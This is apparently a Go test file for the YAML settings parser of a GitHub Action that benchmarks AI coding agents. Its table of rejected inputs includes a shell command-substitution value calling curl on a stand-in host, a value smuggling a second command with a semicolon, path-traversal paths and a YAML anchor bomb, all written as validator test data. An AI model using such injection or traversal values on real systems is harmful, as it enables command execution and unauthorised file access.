package settings_test

import (
	"encoding/json"
	"reflect"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ghx-dev/bench-action/internal/app/settings"
	"github.com/ghx-dev/bench-action/internal/bench"
	"github.com/ghx-dev/bench-action/internal/ghevent"
	"github.com/ghx-dev/bench-action/internal/jsondoc"
)

var known = settings.Known{Sets: []string{"ci-verify-pr", "issues"}, Scenarios: []string{"pr-merge-001", "issue-view-001"}}

func TestAFileWithAModelIsEnough(t *testing.T) {
	s, problems := settings.Parse([]byte("model: openai/gpt-5.3-codex\n"), "", known)
	require.Empty(t, problems)
	want := settings.Defaults()
	want.Model = "openai/gpt-5.3-codex"
	assert.Equal(t, want, s)
	assert.Equal(t, []bench.Mode{bench.AgentDirect, bench.GHX}, s.Modes)
	assert.Zero(t, s.Repetitions, "those of the profile")
}

// fields returns the values of all settings by their paths.
func fields(s settings.Settings) map[string]any {
	all := map[string]any{}
	var add func(prefix string, of reflect.Value)
	add = func(prefix string, of reflect.Value) {
		for i := range of.NumField() {
			path := prefix + of.Type().Field(i).Tag.Get("json")
			if value := of.Field(i); value.Kind() == reflect.Struct {
				add(path+".", value)
			} else {
				all[path] = value.Interface()
			}
		}
	}
	add("", reflect.ValueOf(s))
	return all
}

func TestEverythingCanBeSet(t *testing.T) {
	s, problems := settings.Parse([]byte(`
version: 1
triggers:
  pull_request: [labeled, synchronize]
  merge_group: true
  drafts: true
  skip_marker: false
labels: {run: bench, skip: no-bench}
paths: ["packages/core/**", "!**/*.md"]
profile: claim
scenario_set: issues
modes: [agent_direct, mcp, mytool]
baseline_mode: mcp
candidate_mode: mytool
mode_files: [tools/mytool.yml]
agent: codex
repetitions: 2..8
margins: {success: 10, cost: 1.1, latency: 1.3}
model: scripted
target: aryeko/ghx-bench-fixtures
executor: local
workflow: measure.yaml
benchmark: ghx
timeout_minutes: 30
budget: {run: 1.5, pull_request: 5, day: 20, baseline: 4}
baseline: {push: true, every: week}
commands: {permission: maintain}
forks: never
comment: on-change
on_no_verdict: failure
check_name: agents
`), "", known)
	require.Empty(t, problems)
	for path, value := range fields(s) {
		// Scenarios take the place of a set, and no other benchmark is run.
		assert.True(t, path == "scenarios" || path == "benchmark" || path == "experiment_config" || !reflect.DeepEqual(fields(settings.Defaults())[path], value), "%s is set to its default", path)
	}
	assert.Equal(t, settings.Settings{
		Triggers: settings.Triggers{PullRequest: []string{"labeled", "synchronize"}, MergeGroup: true, Drafts: true},
		Labels:   settings.Labels{Run: "bench", Skip: "no-bench"}, Paths: []string{"packages/core/**", "!**/*.md"},
		Profile: bench.ProfileClaim, ScenarioSet: "issues", Modes: []bench.Mode{bench.AgentDirect, bench.MCP, "mytool"}, BaselineMode: bench.MCP, CandidateMode: "mytool",
		ModeFiles: []string{"tools/mytool.yml"}, Agent: "codex",
		Repetitions: bench.Repetitions{First: 2, Most: 8}, Margins: settings.Margins{Success: 10, Cost: 1.1, Latency: 1.3}, Model: settings.Scripted, Target: "aryeko/ghx-bench-fixtures", Executor: settings.Local, Workflow: "measure.yaml", Benchmark: "ghx", Experiment: "experiment_config.yaml", TimeoutMinutes: 30,
		Budget: settings.Budget{Run: 1.5, PullRequest: 5, Day: 20, Baseline: 4}, Baseline: settings.Baseline{Push: true, Every: settings.EveryWeek}, Commands: settings.Commands{Permission: "maintain"}, Forks: settings.ForksNever,
		Comment: "on-change", OnNoVerdict: "failure", CheckName: "agents",
	}, s)

	s, problems = settings.Parse([]byte("model: a/b\nscenarios: [pr-merge-001]\n"), "", known)
	require.Empty(t, problems)
	assert.Equal(t, []string{"pr-merge-001"}, s.Scenarios)
}

func TestAnEmptyListTakesTheDefaultsPlace(t *testing.T) {
	s, problems := settings.Parse([]byte("model: a/b\ntriggers:\n  pull_request: []\n"), "", known)
	require.Empty(t, problems)
	assert.Empty(t, s.Triggers.PullRequest, "nothing starts by itself")
	assert.False(t, s.Triggers.MergeGroup)
}

func TestMistakesPointAtTheirLine(t *testing.T) {
	for _, c := range []struct {
		name, yaml string
		line       int
		says       string
	}{
		{"no model", "repetitions: 4\n", 1, "model"},
		{"scenarios of another benchmark", "model: a/b\nbenchmark: tau-bench\nscenarios: [pr-merge-001]\n", 3, "is for benchmark ghx, and benchmark is tau-bench: leave it out, and set gate_split in experiment_config.yaml"},
		{"modes of another benchmark", "model: a/b\nbenchmark: tau-bench\nmodes: [agent_direct, ghx]\n", 3, "is for benchmark ghx, and benchmark is tau-bench: leave it out"},
		{"a repository for another benchmark", "model: a/b\nbenchmark: tau-bench\ntarget: o/r\n", 3, "leave it out"},
		{"fixed thresholds for another benchmark", "model: a/b\nbenchmark: tau-bench\nprofile: verify_pr\n", 3, "or write regression"},
		{"no model for another benchmark", "model: scripted\nbenchmark: tau-bench\n", 1, "name the model of your agent"},
		{"a configuration that ghx does not have", "model: a/b\nexperiment_config: e.yaml\n", 2, "is for other benchmarks than ghx"},
		{"a configuration elsewhere", "model: a/b\nbenchmark: command\nexperiment_config: ../e.yaml\n", 3, "a file of the repository"},
		{"an epoch for evidence", "model: a/b\nbenchmark: command\nrepetitions: 1\n", 3, "2 or more"},
		{"a misspelt field", "model: a/b\nrepetition: 4\n", 2, `did you mean "repetitions"?`},
		{"a wrong type", "model: a/b\nrepetitions: four\n", 2, "repetitions"},
		{"too many repetitions", "model: a/b\n\nrepetitions: 101\n", 3, "at most 100"},
		{"a range that is none", "model: a/b\nprofile: regression\nrepetitions: 12..2\n", 3, "the first number is how many there are at least"},
		{"a range from 0", "model: a/b\nprofile: regression\nrepetitions: 0..4\n", 3, "repetitions"},
		{"a range up to 1000", "model: a/b\nprofile: regression\nrepetitions: 2..1000\n", 3, "repetitions"},
		{"a range up to 999", "model: a/b\nprofile: regression\nrepetitions: 2..999\n", 3, "100 are the most"},
		{"a range for fixed thresholds", "model: a/b\nrepetitions: 2..12\n", 2, "regression or claim"},
		{"one repetition for evidence", "model: a/b\nprofile: claim\nrepetitions: 1\n", 3, "2 or more"},
		{"modes that lack the baseline of the profile", "model: a/b\nprofile: regression\nmodes: [agent_direct, ghx]\n", 3, "lacks ghx@base, which is compared: add it, or name another in baseline_mode"},
		{"a margin of nothing", "model: a/b\nmargins: {success: 0}\n", 2, "margins.success"},
		{"a margin below 1", "model: a/b\nmargins:\n  cost: 0.9\n", 3, "margins.cost"},
		{"a model with a shell's words", "model: \"$(curl evil.example)\"\n", 1, "model"},
		{"an unknown mode", "model: a/b\nmodes: [agent_direct, gxh]\n", 2, `did you mean "ghx"?`},
		{"a mode without its file", "model: a/b\nmodes: [agent_direct, ghx, mytool]\n", 2, "name its file in mode_files"},
		{"a mode with a shell's words", "model: a/b\nmode_files: [t.yml]\nmodes: [agent_direct, ghx, \"x;y\"]\n", 3, "modes"},
		{"a mode file elsewhere", "model: a/b\nmode_files:\n  - ok.yml\n  - ../t.yml\n", 4, "a file of the repository"},
		{"a mode file with a line end", "model: a/b\nmode_files: [\"a\\nb\"]\n", 2, "mode_files"},
		{"one mode for both", "model: a/b\ncandidate_mode: agent_direct\n", 2, "name two modes"},
		{"an agent that there is not", "model: a/b\nagent: cursor\n", 2, `"opencode", "claude-code", "codex"`},
		{"modes without the candidate", "model: a/b\nmodes: [agent_direct, mcp]\n", 2, "lacks ghx"},
		{"modes without the baseline", "model: a/b\nmodes: [mcp, ghx]\n", 2, "lacks agent_direct"},
		{"an unknown set", "model: a/b\nscenario_set: isues\n", 2, `did you mean "issues"?`},
		{"an unknown scenario", "model: a/b\nscenarios:\n  - issue-view-001\n  - pr-merge-002\n", 4, `did you mean "pr-merge-001"?`},
		{"a set and scenarios", "model: a/b\nscenario_set: issues\nscenarios: [pr-merge-001]\n", 3, "leave one of them out"},
		{"a pattern that cannot be read", "model: a/b\npaths: [\"[a\"]\n", 2, "has no end"},
		{"patterns that leave all out", "model: a/b\npaths: [\"!docs/**\"]\n", 2, "nothing can match"},
		{"a trigger without its label", "model: a/b\ntriggers:\n  pull_request: [labeled]\n", 3, "labels.run"},
		{"one label for both", "model: a/b\nlabels: {run: X, skip: x}\n", 2, "use two"},
		{"a budget above its frame", "model: a/b\nbudget:\n  run: 60\n", 3, "above the 50 of budget.pull_request"},
		{"a budget of nothing", "model: a/b\nbudget: {run: 0}\n", 2, "budget.run"},
		{"a target that is a path", "model: a/b\ntarget: ../etc\n", 2, "target"},
		{"a workflow that is a path", "model: a/b\nworkflow: ../x.yml\n", 2, "workflow"},
		{"one anchor", "model: &a a/b\n", 1, "anchor"},
		{"a trigger among others without its label", "model: a/b\ntriggers:\n  drafts: true\n  pull_request: [labeled]\n", 4, "labels.run"},
		{"a pull request's budget above the day's", "model: a/b\nbudget:\n  day: 40\n  pull_request: 45\n", 4, "above the 40 of budget.day"},
		{"modes without what the settings compare", "model: a/b\nmodes: [agent_direct, mcp]\n", 2, "name another in candidate_mode"},
		{"a bomb", "a: &a [x, x]\nb: &b [*a, *a]\nmodel: *b\n", 1, "anchor"},
		{"no object", "- model\n", 1, "must be an object"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, problems := settings.Parse([]byte(c.yaml), "", known)
			require.NotEmpty(t, problems)
			assert.Contains(t, problems.Error(), c.says)
			assert.Equal(t, c.line, problems[0].Line)
			assert.Equal(t, settings.Path, problems[0].File)
		})
	}
}

// The schema tells editors the defaults; they are those of the program.
func TestTheSchemasDefaultsHold(t *testing.T) {
	schema, problems := jsondoc.Parse("bench.schema.json", settings.Schema())
	require.Empty(t, problems)
	raw, err := json.Marshal(settings.Defaults())
	require.NoError(t, err)
	program, problems := jsondoc.Parse("defaults", raw)
	require.Empty(t, problems)

	held := 0
	var compare func(schemaPath, path []string)
	compare = func(schemaPath, path []string) {
		fields, _ := schema.At(append(schemaPath, "properties")...)
		for name := range fields.(map[string]any) {
			at, place := append(append([]string{}, schemaPath...), "properties", name), append(append([]string{}, path...), name)
			if _, nested := schema.At(append(at, "properties")...); nested {
				compare(at, place)
				continue
			}
			stated, has := schema.At(append(at, "default")...)
			if !has {
				continue
			}
			value, there := program.At(place...)
			require.True(t, there, "%v is no setting", place)
			assert.EqualValues(t, stated, value, "%v", place)
			held++
		}
	}
	compare(nil, nil)
	assert.GreaterOrEqual(t, held, 18)
}

func TestAMistakeInAModeIsOneProblem(t *testing.T) {
	_, problems := settings.Parse([]byte("model: a/b\nmodes: [agent_direct, gxh]\n"), "", known)
	assert.Len(t, problems, 1, "that ghx is missing follows from it")
}

func TestWhatIsNoMistake(t *testing.T) {
	for name, text := range map[string]string{
		"as many repetitions as may be":              "repetitions: 100\n",
		"a run's budget as large as its frame":       "budget: {run: 50}\n",
		"a frame below the budget that nobody named": "budget: {pull_request: 5, day: 5}\n",
	} {
		_, problems := settings.Parse([]byte("model: a/b\n"+text), "", known)
		assert.Empty(t, problems, name)
	}
	_, problems := settings.Parse([]byte("model: a/b\nscenarios: [x-001]\n"), "", settings.Known{})
	assert.Empty(t, problems, "it is not known which there are")
}

func TestTheRulesAreThoseOfTheSettings(t *testing.T) {
	s, problems := settings.Parse([]byte("model: a/b\ntriggers: {skip_marker: false, drafts: true}\nlabels: {run: r, skip: s}\npaths: [a]\n"), "", known)
	require.Empty(t, problems)
	assert.Equal(t, ghevent.Rules{Drafts: true, RunLabel: "r", SkipLabel: "s", Paths: []string{"a"}}, s.Rules())
	assert.True(t, settings.Defaults().Rules().SkipMarker)
}

func TestAFileSaysWhatTheOrganisationsDefaultsDoNot(t *testing.T) {
	const organisation = "model: a/b\nexecutor: local\nscenario_set: issues\nlabels: {run: bench}\nbudget: {run: 3}\npaths: [a, b, c]\n"
	s, problems := settings.Parse([]byte("scenarios: [pr-merge-001]\nlabels: {skip: no}\npaths: [d]\nmodel: c/d\n"), organisation, known)
	require.Empty(t, problems)
	assert.Equal(t, []any{"c/d", settings.Local, "", []string{"pr-merge-001"}, settings.Labels{Run: "bench", Skip: "no"}, 3.0, []string{"d"}},
		[]any{s.Model, s.Executor, s.ScenarioSet, s.Scenarios, s.Labels, s.Budget.Run, s.Paths})
	s, problems = settings.Parse([]byte("{}\n"), organisation, known)
	require.Empty(t, problems)
	assert.Equal(t, []any{"a/b", "issues"}, []any{s.Model, s.ScenarioSet})

	_, problems = settings.Parse([]byte("executor: local\n"), "labels: {run: bench}\n", known)
	require.Len(t, problems, 1)
	assert.Contains(t, problems[0].Message, "lacks model: name one")

	_, problems = settings.Parse([]byte("model: a/b\n"), "model: a/b\nexecutor: cloud\n", known)
	require.Len(t, problems, 1)
	assert.Equal(t, settings.Path, problems[0].File, "the annotation has to be of a file that the repository has")
	assert.Contains(t, problems[0].Message, "of the repository .github, line 2: executor")
}
